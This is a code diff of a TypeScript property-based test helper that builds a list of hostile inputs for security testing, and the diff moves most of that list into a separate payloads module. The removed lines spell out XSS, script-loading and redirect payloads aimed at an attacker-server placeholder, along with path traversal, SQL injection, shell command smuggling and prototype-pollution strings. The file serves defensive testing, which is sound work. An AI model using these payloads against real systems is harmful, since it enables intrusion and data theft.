@@ -1,51 +1,13 @@
 import fc from 'fast-check';
+import { payloadsFor as allPayloads } from '../attack/payloads.ts';
 
 /** A page or worker that runs a payload sets this global, or asks for this path of the attacker's server. */
 export const MARK = 'attacked';
 
-/** Texts that do harm where something takes them for more than text. @param foreign the address of the attacker's server. */
+/** The texts of all payloads, and some that only files and links have. @param foreign the address of the attacker's server. */
 export function payloadsFor(foreign: string): readonly string[] {
-  const run = `globalThis.${MARK}=1`;
-  return [
-    `<script>${run}</script>`,
-    `"><script src="${foreign}"></script>`,
-    `</script><script>${run}</script>`,
-    `<img src=x onerror="${run}">`,
-    `<img src="${foreign}">`,
-    `"autofocus onfocus="${run}" x="`,
-    `<svg onload="${run}"><use href="${foreign}#x"/></svg>`,
-    `<iframe src="${foreign}"></iframe>`,
-    `<style>@import "${foreign}"</style>`,
-    `<base href="${foreign}"><form action="${foreign}"><button>`,
-    `<meta http-equiv="refresh" content="0;url=${foreign}">`,
-    `<template shadowrootmode="open"><script>${run}</script></template>`,
-    `javascript:${run}`,
-    `data:text/html,<script>${run}</script>`,
-    `[x](javascript:${run})`,
-    `![x](${foreign})`,
-    `\${${run}}{{constructor.constructor('${run}')()}}`,
-    foreign,
-    foreign.replace(/^http:/u, ''),
-    `${foreign}\\@localhost`,
-    '../../../../etc/passwd',
-    '..%2f..%2findex',
-    'papers/../../x.html',
-    '__proto__',
-    'constructor',
-    'toString',
-    '\u0000\u0001\u001B[2J\u007F\u009B31m',
-    '\u202Eevil\u2066\u200B\uFEFF',
-    '\uD800 \uFFFF \u{10FFFF}',
-    '\r\n\r\n::set-output::x',
-    `'; DROP TABLE papers; --`,
-    '$(id)`id`|id;id',
-    '%s%n%x%00',
-    'a'.repeat(20_000),
-    '\u0301'.repeat(5000),
-    '𝕏'.repeat(3000),
-    ' ',
-    '',
-  ];
+  const own = allPayloads(`globalThis.${MARK}=1`, foreign).map(([, text]) => text);
+  return [...own, `${foreign}\\@localhost`, 'a'.repeat(20_000), '𝕏'.repeat(3000), ' ', ''];
 }
 
 /** An address that runs a script or leads elsewhere where something takes it for a path. */
